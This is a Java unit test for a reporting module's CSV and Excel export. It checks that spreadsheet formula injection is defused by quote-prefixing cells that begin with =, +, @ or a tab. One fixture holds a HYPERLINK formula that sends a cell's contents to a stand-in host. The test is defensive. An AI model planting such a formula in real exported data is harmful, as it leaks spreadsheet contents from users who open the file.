package vn.cadres.reporting.export;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

class TableTest {

    private static final String TRAP = "=HYPERLINK(\"http://x.invalid/?\"&A1,\"Nguyễn Văn A\")";

    private final Table rotations = new Table("Luân chuyển", List.of("Họ và tên", "Số năm"), List.of(
            List.of(TRAP, 3), List.of("+84 912", -2), List.of("@SUM(A1)", 1), List.of("\tTab", 0),
            List.of("Lò Thị Lan", 5)));

    @Test
    void a_name_a_spreadsheet_would_run_as_a_formula_is_exported_as_inert_text_in_csv() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        rotations.writeCsv(out);
        List<String> lines = out.toString(StandardCharsets.UTF_8).lines().toList();

        assertThat(lines.get(1)).isEqualTo("\"'=HYPERLINK(\"\"http://x.invalid/?\"\"&A1,\"\"Nguyễn Văn A\"\")\",3");
        assertThat(lines.get(2)).isEqualTo("'+84 912,-2");
        assertThat(lines.get(3)).isEqualTo("'@SUM(A1),1");
        assertThat(lines.get(4)).isEqualTo("'\tTab,0");
        assertThat(lines.get(5)).isEqualTo("Lò Thị Lan,5");
    }

    @Test
    void in_excel_every_text_is_a_text_cell_never_a_formula() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        rotations.writeXlsx(out);

        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(out.toByteArray()))) {
            Cell name = workbook.getSheetAt(0).getRow(1).getCell(0);
            assertThat(name.getCellType()).isEqualTo(CellType.STRING);
            assertThat(name.getStringCellValue()).isEqualTo(TRAP);
            assertThat(name.getCellStyle().getQuotePrefixed()).isTrue();
            assertThat(workbook.getSheetAt(0).getRow(2).getCell(1).getNumericCellValue()).isEqualTo(-2);
        }
    }
}
